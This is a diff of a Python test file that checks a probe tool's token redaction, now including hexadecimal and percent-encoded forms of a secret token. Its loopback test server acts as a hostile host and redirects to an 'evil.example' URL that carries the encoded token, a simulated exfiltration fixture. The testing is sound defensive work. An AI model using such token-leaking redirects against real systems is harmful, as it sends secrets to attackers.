@@ -1,6 +1,7 @@
 """The probe token sent back in base64 (alone, in the ``X-Probe-Token: TOKEN`` line the probe
 sent, in a ``user:TOKEN`` credential; standard or URL-safe, percent-encoded in a URL) or
-written with HTML character references (decimal, hexadecimal, named) is the token too:
+written with HTML character references (decimal, hexadecimal, named), or as the hexadecimal
+of its bytes or every byte percent-encoded (either case: tester T25's D3) is the token too:
 ``<probe token>`` where answers enter (probe.token_redaction). A hostile server on loopback
 echoes it each way; no output repeats it."""
 
@@ -20,7 +21,7 @@ import pytest
 
 from probe.manifest import load
 from probe.sweep import run_sweep
-from probe.token_redaction import PLACEHOLDER, base64_forms, holds, may_hold, text
+from probe.token_redaction import PLACEHOLDER, base64_forms, byte_forms, holds, may_hold, text
 from tests.every_output import every_output
 from tests.loopback_wsgi import serve
 
@@ -50,6 +51,20 @@ BASE64 = {
     "URL-safe": urlsafe_b64encode(f"u:{TOKEN}".encode()).decode("ascii"),
     "percent-encoded": quote(_b64(f"X-Probe-Token: {TOKEN}"), safe=""),
 }
+def _hex(raw: str) -> str:
+    return raw.encode("utf-8").hex()
+
+
+def _percent_all(raw: str) -> str:
+    return "".join(f"%{byte:02X}" for byte in raw.encode("utf-8"))
+
+
+BYTES = {
+    "hexadecimal": _hex(TOKEN),
+    "hexadecimal, upper case": _hex(TOKEN).upper(),
+    "every byte percent-encoded": _percent_all(TOKEN),
+    "every byte percent-encoded, lower case": _percent_all(TOKEN).lower(),
+}
 ENTITIES = {
     "decimal": _decimal(TOKEN),
     "hexadecimal, some without ;": _hexadecimal(TOKEN),
@@ -65,7 +80,8 @@ def _leaks(shown: str) -> list[str]:
     _, screens = base64_forms(TOKEN)
     plain = unquote(html.unescape(html.unescape(shown)))
     return [s for s in screens if s in shown or s in unquote(shown)] + \
-        ([TOKEN] if TOKEN in plain else [])
+        ([TOKEN] if TOKEN in plain else []) + \
+        ([_hex(TOKEN)] if _hex(TOKEN) in shown.lower() else [])
 
 
 @pytest.mark.parametrize("name", sorted(BASE64))
@@ -75,6 +91,16 @@ def test_every_base64_form_is_replaced(name: str) -> None:
     shown = text(echoed, TOKEN)
     assert PLACEHOLDER in shown and not _leaks(shown), shown
     assert shown.endswith("&next=1")
+
+
+@pytest.mark.parametrize("name", sorted(BYTES))
+def test_the_hexadecimal_and_every_byte_percent_encoded_are_replaced(name: str) -> None:
+    echoed = f"dump: {BYTES[name]}; t={BYTES[name]}&next=1"
+    assert holds(echoed, TOKEN), name
+    shown = text(echoed, TOKEN)
+    assert shown == f"dump: {PLACEHOLDER}; t={PLACEHOLDER}&next=1", shown
+    assert not _leaks(shown)
+    assert may_hold(json.dumps({"label": BYTES[name]}).encode(), TOKEN)
 
 
 @pytest.mark.parametrize("name", sorted(ENTITIES))
@@ -88,17 +114,19 @@ def test_near_misses_are_left_as_they_are() -> None:
     # the token's letters in another case; a reference to another character; base64 of a
     # part; a short token's base64 (four characters turn up in any text)
     for value in ("S3CR3T+TÖKÉN/Ω=42", _decimal(TOKEN).replace("&#51;", "&#52;", 1),
-                  _b64(TOKEN[:6]), "&amp;&#115;3cr"):
+                  _b64(TOKEN[:6]), "&amp;&#115;3cr", _hex(TOKEN)[:-2],
+                  _percent_all(TOKEN)[:-3], _hex("abc"), _percent_all("abc")):
         assert not holds(value, TOKEN), value
         assert text(value, TOKEN) == value
     assert base64_forms("abc") == ((), ())
+    assert byte_forms("abc") == ((), ())
 
 
 def test_a_body_holding_an_encoded_token_is_walked_one_without_is_not() -> None:
     assert may_hold(json.dumps({"label": BASE64["the header line sent"]}).encode(), TOKEN)
     assert may_hold(json.dumps({"label": ENTITIES["named"]}).encode(), TOKEN)
     assert may_hold(json.dumps({"label": ENTITIES["decimal"]}).encode(), TOKEN)
-    assert not may_hold(b'{"label": "a &amp; b", "x": "czNj"}', TOKEN)
+    assert not may_hold(b'{"label": "a &amp; b", "x": "czNj", "y": "%73%33"}', TOKEN)
 
 
 def _echoing(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
@@ -116,6 +144,11 @@ def _echoing(environ: dict[str, Any], start_response: Callable[..., Any]) -> Ite
                                      ("Server", f"echo {_hexadecimal(sent)}"),
                                      ("Content-Length", "0")])
         return [b""]
+    if path.startswith("/bytes-redirect/"):
+        start_response("302 Found", [
+            ("Location", f"http://evil.example/?t={_percent_all(sent).lower()}"),
+            ("Server", f"echo {_hex(sent).upper()}"), ("Content-Length", "0")])
+        return [b""]
     nonce, instance_id = environ.get("HTTP_X_PROBE_NONCE", ""), "a" * 32
     body = {
         "schema": 1, "label": f"b64={_b64(f'probe:{sent}')}", "instance_id": instance_id,
@@ -123,7 +156,7 @@ def _echoing(environ: dict[str, Any], start_response: Callable[..., Any]) -> Ite
         "settings_module": {"environ": _decimal(sent), "loaded": _hexadecimal(sent)},
         "request": {"host": "h", "server_name": "h", "server_port": "80", "scheme": "http",
                     "script_name": "", "path_info": "/__probe__"},
-        "script_file": None, "server": {}, "python": {},
+        "script_file": _hex(sent), "server": {"software": _percent_all(sent)}, "python": {},
         "started_at": "2024-01-01T00:00:00+00:00", "uptime_s": 1.0, "hits": 1, "nonce": nonce,
         "signature": hmac.new(sent.encode(), f"{nonce}\n{instance_id}".encode(),
                               hashlib.sha256).hexdigest(),
@@ -136,7 +169,7 @@ def test_no_output_repeats_a_token_a_real_server_sent_back_encoded(tmp_path: Pat
     token = tmp_path / "token"
     token.write_text(TOKEN + "\n", encoding="utf-8")
     token.chmod(0o600)
-    names = ("b64-redirect", "entity-redirect", "answer")
+    names = ("b64-redirect", "entity-redirect", "bytes-redirect", "answer")
     with serve(_echoing) as port:
         manifest = tmp_path / "m.toml"
         manifest.write_text(f'[probe]\ntoken_file = "{token}"\nsamples = 1\n' + "".join(
@@ -146,11 +179,14 @@ def test_no_output_repeats_a_token_a_real_server_sent_back_encoded(tmp_path: Pat
     targets = {t.url.rstrip("/").rsplit("/", 1)[-1]: t for t in report.targets}
     assert f"http://evil.example/?t={PLACEHOLDER}" in targets["b64-redirect"].explanation
     assert f"http://evil.example/?t={PLACEHOLDER}" in targets["entity-redirect"].explanation
+    assert f"http://evil.example/?t={PLACEHOLDER}" in targets["bytes-redirect"].explanation
     answered = targets["answer"].observed
     assert answered is not None
     assert answered.label == f"b64={text(_b64(f'probe:{TOKEN}'), TOKEN)}"
     assert PLACEHOLDER in answered.label
     assert answered.raw["settings_module"] == {"environ": PLACEHOLDER, "loaded": PLACEHOLDER}
     assert answered.raw["process_group"] == PLACEHOLDER
+    assert answered.raw["script_file"] == PLACEHOLDER
+    assert answered.raw["server"] == {"software": PLACEHOLDER}
     for name, shown in every_output(report).items():
         assert not _leaks(shown.decode("utf-8")), name
